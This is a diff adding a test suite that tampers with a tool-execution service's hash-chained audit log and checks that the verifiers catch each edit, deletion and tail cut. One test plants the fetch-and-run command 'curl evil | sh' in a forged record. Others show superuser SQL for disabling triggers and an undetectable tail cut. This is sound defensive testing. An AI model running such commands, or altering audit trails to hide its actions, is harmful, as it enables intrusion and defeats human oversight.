@@ -1,0 +1,300 @@
+// Tampering with the audit trail as the PostgreSQL superuser, and what catches it:
+// GET /v1/audit/verify and `toolcage audit verify` (database mode, exit status 3) name the
+// first bad sequence number. Each case restores the trail afterwards and checks that it
+// verifies again, so the cases are independent. Also: the runtime role cannot change the
+// trail, the owner hits the triggers, and execution fails closed when the trail cannot be
+// written. Runs on a database of its own (setup freshDatabase): it breaks the chain on purpose.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { setup, assertProblem, psql, BIN, SLOW } from './harness.mjs';
+
+const execFileP = promisify(execFile);
+const server = setup('audit-tamper', { freshDatabase: true });
+
+async function verifyApi() {
+  const res = await server.request('GET', '/v1/audit/verify', { key: server.keys.auditor });
+  assert.equal(res.status, 200, res.text);
+  return res.json;
+}
+
+async function verifyCli(args = []) {
+  try {
+    const { stdout } = await execFileP(BIN, ['audit', 'verify', ...args], { env: { ...process.env, ...server.env }, timeout: 60_000 * SLOW });
+    return { code: 0, stdout, verdict: JSON.parse(stdout) };
+  } catch (e) {
+    if (e.code !== 3) throw new Error(`audit verify: exit ${e.code}: ${e.stdout}\n${e.stderr}`);
+    return { code: 3, stdout: e.stdout, verdict: JSON.parse(e.stdout) };
+  }
+}
+
+/** Both verifiers must find the same first bad seq, with a reason matching re. */
+async function assertDetected(seq, re) {
+  const api = await verifyApi();
+  assert.equal(api.ok, false, JSON.stringify(api));
+  assert.equal(api.first_bad_seq, seq, JSON.stringify(api));
+  assert.match(api.reason, re);
+  const cli = await verifyCli();
+  assert.equal(cli.code, 3, cli.stdout);
+  assert.equal(cli.verdict.first_bad_seq, seq);
+  assert.match(cli.stdout, new RegExp(`"first_bad_seq": ${seq}\\b`));
+  return api;
+}
+
+async function assertIntact() {
+  const api = await verifyApi();
+  assert.equal(api.ok, true, JSON.stringify(api));
+  const cli = await verifyCli();
+  assert.equal(cli.code, 0, cli.stdout);
+  return api;
+}
+
+// Superuser SQL with the append-only triggers off for the duration of one transaction.
+const untriggered = (sql) => server.sql(`BEGIN; ALTER TABLE audit_log DISABLE TRIGGER USER; ${sql}; ALTER TABLE audit_log ENABLE TRIGGER USER; COMMIT;`);
+
+async function rows(where) {
+  const out = await server.sql(`SELECT json_build_object('seq', seq, 'record', record::text, 'hash', encode(hash, 'hex'))
+    FROM audit_log WHERE ${where} ORDER BY seq`);
+  return out.split('\n').filter(Boolean).map((l) => JSON.parse(l));
+}
+
+const lit = (s) => `$tc$${s}$tc$`;
+
+async function reinsert(saved) {
+  if (!saved.length) return;
+  const values = saved.map((r) => `(${r.seq}, ${lit(r.record)}::jsonb, decode('${r.hash}', 'hex'))`).join(',\n');
+  // INSERT needs no trigger off: the trail is append-only, not insert-only.
+  await server.sql(`INSERT INTO audit_log (seq, record, hash) VALUES ${values}`);
+}
+
+async function head() {
+  const [seq, hash] = (await server.sql("SELECT seq, encode(hash, 'hex') FROM audit_head")).trim().split('|');
+  return { seq: Number(seq), hash };
+}
+
+async function setHead(h) {
+  await server.sql(`UPDATE audit_head SET seq = ${h.seq}, hash = decode('${h.hash}', 'hex')`);
+}
+
+async function metric(name) {
+  const res = await server.request('GET', '/metrics');
+  const m = res.text.match(new RegExp(`^${name} (\\d+)$`, 'm'));
+  assert.ok(m, `${name} in /metrics`);
+  return Number(m[1]);
+}
+
+let seeded = null;
+/** Once per file, from the first test (the harness starts the server in its own hook). */
+function seed() {
+  seeded ??= seedOnce();
+  return seeded;
+}
+
+async function seedOnce() {
+  // 60 executions = 120 records: a signed checkpoint exists at seq 100. 8 at a time.
+  for (let i = 0; i < 60; i += 8) {
+    await Promise.all(Array.from({ length: Math.min(8, 60 - i) }, () => server.execute({ tool: 'shell', code: 'true' })));
+  }
+  const cps = (await server.sql('SELECT seq FROM audit_checkpoints ORDER BY seq')).split('\n').filter(Boolean).map(Number);
+  assert.ok(cps.includes(100), `checkpoint at 100: ${cps}`);
+  await assertIntact();
+}
+
+test('(a) a record edited in place (triggers disabled) is found by seq', async () => {
+  await seed();
+  const [orig] = await rows('seq = 37');
+  assert.equal(JSON.parse(orig.record).action, 'execute');
+  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{params,code}', '"curl evil | sh"') WHERE seq = 37`);
+  try {
+    await assertDetected(37, /altered|hash/);
+    // What an auditor reads is the forged record: only the chain shows it.
+    const res = await server.request('GET', '/v1/audit/37', { key: server.keys.auditor });
+    assert.equal(res.json.record.params.code, 'curl evil | sh');
+  } finally {
+    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = 37`);
+  }
+  await assertIntact();
+});
+
+test('(a2) a record whose seq or prev_hash was rewritten is found', async () => {
+  await seed();
+  const [orig] = await rows('seq = 12');
+  await untriggered(`UPDATE audit_log SET record = jsonb_set(record, '{prev_hash}', '"${'0'.repeat(64)}"') WHERE seq = 12`);
+  try {
+    await assertDetected(12, /predecessor/);
+  } finally {
+    await untriggered(`UPDATE audit_log SET record = ${lit(orig.record)}::jsonb WHERE seq = 12`);
+  }
+  await assertIntact();
+});
+
+test('(b) a record deleted from the middle is found by its seq', async () => {
+  await seed();
+  const saved = await rows('seq = 55');
+  await untriggered('DELETE FROM audit_log WHERE seq = 55');
+  try {
+    await assertDetected(55, /missing|gap/);
+  } finally {
+    await reinsert(saved);
+  }
+  await assertIntact();
+});
+
+test('(c) records cut from the tail below a signed checkpoint are detected, even with audit_head rewritten', async () => {
+  await seed();
+  const cp = Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim());
+  assert.ok(cp >= 100);
+  const keep = cp - 10;
+  const savedHead = await head();
+  const saved = await rows(`seq > ${keep}`);
+  // Cut and rewrite the head to the new tail, in one transaction that holds the head lock.
+  await untriggered(`SELECT 1 FROM audit_head FOR UPDATE;
+    DELETE FROM audit_log WHERE seq > ${keep};
+    UPDATE audit_head SET seq = ${keep}, hash = (SELECT hash FROM audit_log WHERE seq = ${keep})`);
+  try {
+    await assertDetected(keep + 1, /cut from the tail.*checkpoint/);
+  } finally {
+    await reinsert(saved);
+    await setHead(savedHead);
+  }
+  await assertIntact();
+});
+
+test('(c2) records cut from the tail above the last checkpoint, head left alone, are detected by the head', async () => {
+  await seed();
+  await server.execute({ tool: 'shell', code: 'true' });
+  const h = await head();
+  const saved = await rows(`seq = ${h.seq}`);
+  await untriggered(`DELETE FROM audit_log WHERE seq = ${h.seq}`);
+  try {
+    await assertDetected(h.seq, /cut from the tail.*head/);
+  } finally {
+    await reinsert(saved);
+  }
+  await assertIntact();
+});
+
+test('(c3) the undetectable case: tail cut above the last checkpoint with the head rewritten; an earlier export still proves it', async () => {
+  await seed();
+  // Documented limit (docs/audit.md): the superuser alone can remove records newer than the
+  // last signed checkpoint and rewrite audit_head; the database then verifies. What still
+  // shows it is an export taken before: its records and checkpoints are signed history.
+  const exp = await server.request('GET', '/v1/audit/export?format=jsonl', { key: server.keys.admin });
+  assert.equal(exp.status, 200);
+  const lines = exp.text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
+  const expCps = lines.filter((l) => l.checkpoint).map((l) => l.checkpoint.seq);
+  const expRecords = lines.filter((l) => !l.checkpoint);
+  const expFile = path.join(server.stateDir, 'before-cut.jsonl');
+  fs.writeFileSync(expFile, exp.text);
+
+  let cut = 0;
+  let cp = 0;
+  let savedHead;
+  let saved = [];
+  // The server signs a checkpoint once a minute when the chain moved; add records and cut
+  // at once, under the head lock, until something beyond the last checkpoint was cut.
+  for (let attempt = 0; attempt < 3 && cut === 0; attempt++) {
+    await server.execute({ tool: 'shell', code: 'true' });
+    await server.execute({ tool: 'shell', code: 'true' });
+    savedHead = await head();
+    cp = Number((await server.sql('SELECT max(seq) FROM audit_checkpoints')).trim());
+    saved = await rows(`seq > ${cp}`);
+    const out = await untriggered(`SELECT 1 FROM audit_head FOR UPDATE;
+      DELETE FROM audit_log WHERE seq > ${cp} AND seq > (SELECT max(seq) FROM audit_checkpoints);
+      UPDATE audit_head SET seq = (SELECT max(seq) FROM audit_log), hash = (SELECT hash FROM audit_log ORDER BY seq DESC LIMIT 1)`);
+    assert.equal(out.trim(), '1');
+    cut = savedHead.seq - (await head()).seq;
+  }
+  assert.ok(cut > 0, 'something was cut');
+  try {
+    const v = await assertIntact();
+    assert.equal(v.checkpoint.seq, cp, 'the newest checkpoint still covers what it covered');
+    assert.equal(v.checked, cp);
+    // The earlier export: it still verifies offline, reaches past the live head, and agrees
+    // with the live trail on every record up to the shared checkpoint.
+    const { stdout: pkOut } = await server.cli(['audit', 'public-key']);
+    const pk = pkOut.trim().split('\n').pop();
+    const offline = await verifyCli(['--file', expFile, '--public-key', pk]);
+    assert.equal(offline.code, 0, offline.stdout);
+    assert.ok(expCps.includes(Math.max(...expCps)) && Math.max(...expCps) <= cp);
+    const live = (await rows(`seq <= ${cp}`)).map((r) => [r.seq, r.hash]);
+    const old = expRecords.filter((r) => r.seq <= cp).map((r) => [r.seq, r.hash]);
+    assert.deepEqual(old, live.slice(0, old.length), 'records under the checkpoint are unchanged');
+    assert.ok(expRecords[expRecords.length - 1].seq <= savedHead.seq);
+  } finally {
+    await reinsert(saved);
+    await setHead(savedHead);
+  }
+  await assertIntact();
+});
+
+test('(d) the runtime role cannot UPDATE, DELETE or TRUNCATE the trail; the owner hits the triggers', async () => {
+  await seed();
+  const { app, owner } = server.urls;
+  for (const table of ['audit_log', 'audit_checkpoints']) {
+    for (const sql of [`UPDATE ${table} SET seq = seq WHERE seq = 100`, `DELETE FROM ${table} WHERE seq = 100`, `TRUNCATE ${table}`]) {
+      await assert.rejects(psql(sql, { conninfo: app }), /permission denied/, `toolcage_app: ${sql}`);
+      await assert.rejects(psql(sql, { conninfo: owner }), /append-only/, `toolcage_owner: ${sql}`);
+    }
+  }
+  // The runtime role may read and append, nothing else (audit_head it must update).
+  assert.equal((await psql('SELECT count(*) > 0 FROM audit_log', { conninfo: app })).trim(), 't');
+  await assertIntact();
+});
+
+test('(e) fail closed: when the trail cannot be written, nothing runs and the client gets 503', async () => {
+  await seed();
+  const failures0 = await metric('toolcage_audit_write_failures_total');
+  const runs0 = Number((await server.sql('SELECT count(*) FROM executions')).trim());
+  const head0 = await head();
+  await server.sql('REVOKE INSERT ON audit_log FROM toolcage_app');
+  let res;
+  try {
+    res = await server.request('POST', '/v1/execute', {
+      key: server.keys.agent,
+      json: { tool: 'shell', code: 'sleep 2; echo ran' },
+    });
+  } finally {
+    await server.sql('GRANT INSERT ON audit_log TO toolcage_app');
+  }
+  assertProblem(res, 503, 'unavailable');
+  assert.ok(res.ms < 1900, `the 503 came after ${Math.round(res.ms)} ms: the sandbox (sleep 2) must not have run`);
+  const rid = res.headers.get('x-request-id');
+  assert.equal((await server.sql(`SELECT count(*) FROM executions WHERE request_id = ${lit(rid)}`)).trim(), '0');
+  assert.equal(Number((await server.sql('SELECT count(*) FROM executions')).trim()), runs0);
+  assert.deepEqual(await head(), head0, 'no record was appended');
+  assert.equal(await metric('toolcage_audit_write_failures_total'), failures0 + 1);
+
+  // Granted back: executions run and are recorded again, and the chain is intact.
+  await server.execute({ tool: 'shell', code: 'echo ok' });
+  await assertIntact();
+});
+
+test('(e2) fail closed after the run: a result whose completion record cannot be written is not handed out', async () => {
+  await seed();
+  const failures0 = await metric('toolcage_audit_write_failures_total');
+  const pending = server.request('POST', '/v1/execute', { key: server.keys.agent, json: { tool: 'shell', code: 'sleep 1; echo secret-result' } });
+  // Wait until the execute record is in, then take the right to append away.
+  const deadline = Date.now() + 5000 * SLOW;
+  let id = '';
+  while (!id && Date.now() < deadline) {
+    id = (await server.sql("SELECT id FROM executions WHERE status = 'running' AND request->>'code' = 'sleep 1; echo secret-result'")).trim();
+  }
+  assert.ok(id, 'the execution started');
+  await server.sql('REVOKE INSERT ON audit_log FROM toolcage_app');
+  let res;
+  try {
+    res = await pending;
+  } finally {
+    await server.sql('GRANT INSERT ON audit_log TO toolcage_app');
+  }
+  assertProblem(res, 503, 'unavailable');
+  assert.ok(!res.text.includes('secret-result'));
+  assert.equal(await metric('toolcage_audit_write_failures_total'), failures0 + 1);
+  // The stored execution has no result either (the UPDATE rolled back with the record).
+  assert.equal((await server.sql(`SELECT status FROM executions WHERE id = '${id}'`)).trim(), 'running');
+  await assertIntact();
+});
